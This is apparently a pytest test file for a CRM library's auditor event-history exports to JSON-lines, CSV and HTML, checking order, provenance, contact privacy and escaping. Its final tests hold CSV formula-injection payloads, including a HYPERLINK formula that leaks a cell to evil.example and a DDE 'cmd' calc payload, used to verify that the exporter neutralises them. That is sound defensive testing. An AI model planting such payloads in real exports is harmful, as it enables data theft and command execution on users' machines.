"""An account's event history for auditors (``B2BCore.account_events``) and
its JSON-lines, CSV and HTML exports, on every store."""

from __future__ import annotations

import csv
import io
import json
import re
from datetime import UTC, date
from uuid import UUID

import pytest

from b2bcore import (
    B2BCore,
    BusinessLine,
    Money,
    NotFoundError,
    ObsoleteReason,
    Temperature,
)
from b2bcore.application.event_history import asset_lifecycles
from b2bcore_adapters.demo.book import record_hyowon
from b2bcore_adapters.render.exports import COLUMNS, to_csv, to_html, to_jsonl
from tests.helpers import purchase_asset, register_account

CONTACT = "이지은 (fleet manager)"


def record_story(core: B2BCore) -> dict[str, UUID]:
    """The (주)효원 story, its first asset renewed and retired, a lead captured
    without an account and converted into one of its deals, and another
    account's asset interleaved."""
    account, asset, deal = record_hyowon(core)
    other = register_account(core, name="Other Co")
    other_asset = purchase_asset(core, other)
    core.renew_asset(
        asset,
        usage_end_on=date(2026, 1, 19),
        value=Money.of(20_000_000, "KRW"),
        on=date(2025, 1, 10),
        reason="renewed at the QBR",
    )
    core.make_asset_obsolete(
        asset, reason_code=ObsoleteReason.BUDGET, on=date(2025, 6, 1)
    )
    walk_in = core.capture_lead(
        company="(주)효원 Busan branch",
        source="web form",
        temperature=Temperature.WARM,
        contact="박서준",
        on=date(2025, 2, 1),
    )
    core.qualify_lead(walk_in, need="a pilot fleet", on=date(2025, 2, 2))
    converted = core.convert_lead(
        walk_in,
        name="Busan pilot",
        amount=Money.of(1_000_000, "KRW"),
        owner="park.minjun",
        business_line=BusinessLine.DOMESTIC,
        region="Busan",
        country="KR",
        product="B2B car-sharing fleet",
        expected_close_on=date(2025, 6, 30),
        account_id=account,
        on=date(2025, 2, 3),
    )
    return {
        "account": account,
        "asset": asset,
        "deal": deal,
        "other": other,
        "other_asset": other_asset,
        "walk_in": walk_in,
        "converted": converted,
    }


@pytest.fixture
def story(core: B2BCore) -> dict[str, UUID]:
    return record_story(core)


def test_the_history_holds_every_event_of_the_account_and_its_aggregates_in_log_order(
    core: B2BCore, story: dict[str, UUID]
) -> None:
    entries = core.account_events(story["account"])

    positions = [e.position for e in entries]
    assert positions == sorted(positions)
    assert len(set(positions)) == len(positions)
    ids = {e.aggregate_id for e in entries}
    assert story["other"] not in ids
    assert story["other_asset"] not in ids
    assert {story["account"], story["asset"], story["deal"]} <= ids
    assert {story["walk_in"], story["converted"]} <= ids
    for aggregate in ids:
        versions = [e.version for e in entries if e.aggregate_id == aggregate]
        assert versions == list(range(1, len(versions) + 1))
    assert {e.kind for e in entries} == {
        "account",
        "asset",
        "lead",
        "opportunity",
        "feedback",
    }
    expected = sum(len(list(core.event_log.events.get(aggregate))) for aggregate in ids)
    assert len(entries) == expected


def test_each_entry_carries_its_provenance_and_a_readable_description(
    core: B2BCore, story: dict[str, UUID]
) -> None:
    entries = core.account_events(story["account"])
    installed = next(e for e in entries if e.event_type == "Installed")
    renewed = next(e for e in entries if e.event_type == "Renewed")
    tier_two = next(
        e
        for e in entries
        if e.event_type == "TierChanged" and "tier 2" in e.description
    )

    assert installed.description == "Installed; usage ends 2025-01-19"
    assert installed.effective_on == date(2024, 1, 20)
    assert installed.kind == "asset"
    assert installed.aggregate_id == story["asset"]
    assert renewed.reason == "renewed at the QBR"
    assert renewed.actor == "tester"
    assert tier_two.description == "Moved to tier 2 (opportunity evaluation)"
    assert all(e.recorded_at.tzinfo is not None for e in entries)
    assert all(e.recorded_at.utcoffset() == UTC.utcoffset(None) for e in entries)


def test_correlation_and_causation_ids_are_carried(memory_core: B2BCore) -> None:
    account = register_account(memory_core)
    first = memory_core.account_events(account)[0]
    correlation = UUID(int=7)
    memory_core.change_account_attributes(
        account,
        sector="logistics",
        correlation_id=correlation,
        causation_id=first.event_id,
        actor="auditor.kim",
    )

    changed = memory_core.account_events(account)[-1]

    assert changed.description == "Changed sector"
    assert (changed.correlation_id, changed.causation_id) == (
        correlation,
        first.event_id,
    )
    assert changed.actor == "auditor.kim"


def test_no_export_names_a_contact(core: B2BCore, story: dict[str, UUID]) -> None:
    entries = core.account_events(story["account"])
    texts = (
        to_jsonl(entries)
        + to_csv(entries)
        + to_html(story["account"], "(주)효원", entries, chain_status="OK")
    )

    assert CONTACT not in texts
    assert "박서준" not in texts
    assert "contact recorded" in texts


def test_an_unknown_account_is_not_found(core: B2BCore) -> None:
    with pytest.raises(NotFoundError, match="account"):
        core.account_events(UUID(int=1))


def test_an_asset_id_is_not_an_account(core: B2BCore, story: dict[str, UUID]) -> None:
    with pytest.raises(NotFoundError, match="is an asset"):
        core.account_events(story["asset"])


def test_exporting_twice_gives_the_same_bytes(
    core: B2BCore, story: dict[str, UUID]
) -> None:
    first = core.account_events(story["account"])
    again = core.account_events(story["account"])

    assert to_jsonl(first) == to_jsonl(again)
    assert to_csv(first) == to_csv(again)
    html = to_html(story["account"], "(주)효원", first, chain_status="OK")
    assert html == to_html(story["account"], "(주)효원", again, chain_status="OK")


def exported(core: B2BCore, account: UUID) -> tuple[str, str, str]:
    entries = core.account_events(account)
    status = core.verify_log().describe()
    return (
        to_jsonl(entries),
        to_csv(entries),
        to_html(account, "(주)효원", entries, chain_status=status),
    )


def test_reopening_the_store_gives_the_same_bytes(durable_url: str) -> None:
    with B2BCore.open(durable_url, actor="tester") as core:
        account = record_story(core)["account"]
        before = exported(core, account)

    with B2BCore.open(durable_url, actor="tester") as core:
        after = exported(core, account)

    assert after == before
    assert "OK: " in before[2]


def test_the_csv_parses_back_with_one_row_per_event(
    core: B2BCore, story: dict[str, UUID]
) -> None:
    entries = core.account_events(story["account"])

    rows = list(csv.DictReader(io.StringIO(to_csv(entries), newline="")))

    assert tuple(rows[0]) == COLUMNS
    assert len(rows) == len(entries)
    assert [int(r["position"]) for r in rows] == [e.position for e in entries]
    first = rows[0]
    assert first["kind"] == "account"
    assert first["event_type"] == "Registered"
    assert first["aggregate_id"] == str(story["account"])
    assert first["effective_on"] == "2023-12-04"
    assert first["reason"] == ""
    assert first["correlation_id"] == ""


def test_each_jsonl_line_is_one_json_object_in_column_order(
    core: B2BCore, story: dict[str, UUID]
) -> None:
    entries = core.account_events(story["account"])
    text = to_jsonl(entries)

    lines = text.split("\n")
    assert lines[-1] == ""
    assert "\r" not in text
    objects = [json.loads(line) for line in lines[:-1]]
    assert len(objects) == len(entries)
    assert all(tuple(o) == COLUMNS for o in objects)
    assert objects[1]["description"].startswith("Purchased B2B car-sharing fleet")
    assert objects[0]["reason"] is None
    assert re.fullmatch(
        r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d\.\d{6}\+00:00", objects[0]["recorded_at"]
    )


def test_the_html_page_is_self_contained_with_timeline_lifecycle_and_chain(
    core: B2BCore, story: dict[str, UUID]
) -> None:
    entries = core.account_events(story["account"])

    html = to_html(
        story["account"], "(주)효원", entries, chain_status="OK: 40 events, head ab12"
    )

    assert html.startswith("<!DOCTYPE html>")
    assert not re.search(r"""(src|href)\s*=\s*["']?(https?:)?//""", html)
    assert "<style>" in html
    assert "<script" not in html
    assert "OK: 40 events, head ab12" in html
    assert (
        f"Asset {story['asset']}: purchased 2024-01-15 → installed 2024-01-20 "
        "→ renewed 2025-01-10 → made obsolete 2025-06-01"
    ) in html
    header_rows = 1 + len(asset_lifecycles(entries))
    step_rows = sum(len(asset.steps) for asset in asset_lifecycles(entries))
    assert html.count("<tr>") == header_rows + step_rows + len(entries)
    assert "Moved to tier 2 (opportunity evaluation)" in html


def test_html_escapes_what_the_log_holds(memory_core: B2BCore) -> None:
    account = register_account(memory_core, name="<b>Evil</b> & Co")
    entries = memory_core.account_events(account)

    html = to_html(account, "<b>Evil</b> & Co", entries, chain_status="OK")

    assert "<b>Evil" not in html
    assert "&lt;b&gt;Evil&lt;/b&gt; &amp; Co" in html


def test_an_account_with_no_assets_says_so(memory_core: B2BCore) -> None:
    account = register_account(memory_core)

    html = to_html(account, "x", memory_core.account_events(account), chain_status="OK")

    assert "No assets." in html


FORMULAS = (
    '=HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\tcalc",
    "\rcalc",
)


@pytest.mark.parametrize("formula", FORMULAS)
def test_a_csv_text_cell_starting_like_a_formula_is_written_as_text(
    memory_core: B2BCore, formula: str
) -> None:
    account = register_account(memory_core, name="Other Co")
    memory_core.change_account_attributes(
        account, sector="rental", on=date(2024, 2, 1), reason=formula
    )
    text = to_csv(memory_core.account_events(account))

    rows = list(csv.DictReader(io.StringIO(text, newline="")))

    assert rows[-1]["reason"] == "'" + formula


@pytest.mark.parametrize("separator", [",", ";", "\t", "\n"])
def test_no_separator_in_a_csv_text_cell_can_start_a_formula(
    memory_core: B2BCore, separator: str
) -> None:
    reason = f"renewed{separator}=cmd|' /C calc'!A0"
    account = register_account(memory_core, name="Other Co")
    memory_core.change_account_attributes(
        account, sector="rental", on=date(2024, 2, 1), reason=reason
    )

    text = to_csv(memory_core.account_events(account))

    # However a spreadsheet splits the file, no piece starts with "=".
    pieces = re.split(r"[,;\t\n]", text)
    assert not [piece for piece in pieces if piece.startswith("=")]
    row = list(csv.DictReader(io.StringIO(text, newline="")))[-1]
    assert row["reason"] == f"renewed{separator}'=cmd|' /C calc'!A0"


def test_csv_numbers_are_bare_and_plain_text_is_unchanged(
    memory_core: B2BCore,
) -> None:
    account = register_account(memory_core, name="Acme - Busan, 2nd office")

    text = to_csv(memory_core.account_events(account))

    assert text.splitlines()[1].startswith('1,"account",')
    row = next(csv.DictReader(io.StringIO(text, newline="")))
    assert row["version"] == "1"
    assert row["description"].startswith("Registered Acme - Busan, 2nd office (")
